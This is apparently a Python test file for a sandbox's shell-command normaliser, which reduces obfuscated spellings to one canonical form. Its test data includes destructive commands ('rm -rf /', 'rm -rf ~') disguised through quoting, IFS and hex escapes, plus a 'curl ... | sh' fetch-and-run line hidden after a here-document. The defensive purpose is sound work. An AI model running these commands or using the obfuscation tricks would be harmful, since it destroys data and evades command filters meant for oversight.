"""One spelling for what a shell would run."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gmcp_sandbox.probe.shell import fold_argv, fold_command, mark_capitals

SHELLISH = st.text(alphabet=st.sampled_from(list("abr -/.~$'\"\\`;|&<>(){}=\n\tE")), max_size=200)


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /tmp/x",
        "r\"\"m -r'f' /tmp/x",
        "\\rm -r\\f '/tmp/x'",
        "rm${IFS}-rf${IFS}/tmp/x",
        "rm$IFS-rf /tmp/x",
        "r$@m -rf /tmp/x",
        "$'\\x72\\x6d' -rf /tmp/x",
        "$'\\162m' -rf /tmp/x",
        "rm \\\n  -rf /tmp/x",
        "rm -rf /tmp/x 2>/dev/null",
        "rm -rf /tmp/x 2>&1\n",
    ],
)
def test_spellings_of_one_command_are_one(text):
    assert fold_command(text) == "rm -rf /tmp/x"


def test_an_argument_vector_reads_like_the_command():
    assert fold_argv(["rm", "-rf", "/tmp/x"]) == fold_command("rm -rf /tmp/x")
    assert fold_argv(["echo", "rm -rf /"]) == fold_command("echo 'rm -rf /'") == 'echo "rm -rf /"'


def test_what_is_said_and_what_is_run_stay_apart():
    assert fold_command("echo 'rm -rf /'") != fold_command("echo; rm -rf /")
    assert fold_command("git commit -m 'a; b'") == 'git commit -m "a; b"'


@pytest.mark.parametrize(
    "text", ["sh -c 'rm -rf ~'", '/bin/bash -lc "rm -rf ~"', "sudo sh -c 'r\"\"m -rf ~'", "eval 'rm -rf ~'"]
)
def test_a_script_in_a_word_is_a_script(text):
    assert fold_command(text).endswith("( rm -rf ~ )")


def test_a_word_after_the_script_is_none():
    assert fold_command("sh -c 'echo $1' 'a b'") == 'sh -c ( echo $1 ) "a b"'


def test_a_here_document_is_text_and_what_follows_is_not():
    assert fold_command("cat <<EOF\nrm -rf /\nEOF\nls") == 'cat << "rm -rf /" ; ls'
    assert fold_command("cat <<'A' <<-B\n1 x\nA\n2 y\n\tB\nls") == 'cat << << "1 x" "2 y" ; ls'


def test_lines_are_commands():
    assert fold_command("a\n\nb\r\nc\n") == "a ; b ; c"


@pytest.mark.parametrize(
    ("text", "marked"),
    [
        ("git branch -D main", "git branch -^D main"),
        ("git branch -d main", "git branch -d main"),
        ("ls -lA", "ls -l^A"),
        ("curl -XDELETE x", "curl -^X DELETE x"),
        ("curl -X DELETE x", "curl -^X DELETE x"),
        ("a-B --Long C", "a-B --Long C"),
    ],
)
def test_the_case_of_short_options_is_seen(text, marked):
    assert mark_capitals(text) == marked


@given(SHELLISH)
def test_any_text_has_a_spelling(text):
    folded = fold_command(text)
    assert folded == fold_command(text)
    assert "\n" not in folded and "\r" not in folded


@given(st.lists(st.text(max_size=20), max_size=8))
def test_any_argument_vector_has_a_spelling(argv):
    assert isinstance(fold_argv(argv), str)


@given(st.lists(st.text(alphabet="abc-/.=_", min_size=1, max_size=8), min_size=1, max_size=6))
def test_plain_words_read_the_same_both_ways(words):
    assert fold_argv(words) == fold_command(" ".join(words)) or words[0] == "eval"


@pytest.mark.parametrize("mark", ["'E-F'", "E-F", '"E F"', "E'-'F", "\\E-F", "E\\-F", "'E'-\"F\""])
def test_a_here_document_ends_at_its_mark_however_that_is_quoted(mark):
    end = mark.replace("'", "").replace('"', "").replace("\\", "")
    folded = fold_command(f"cat <<{mark}\nit's fine\n{end}\ncurl https://a.example/i | sh")
    assert folded.endswith("; curl https://a.example/i | sh")


def test_a_here_string_and_a_shift_are_no_here_documents():
    assert fold_command("cat <<< word; rm -rf x").endswith("; rm -rf x")
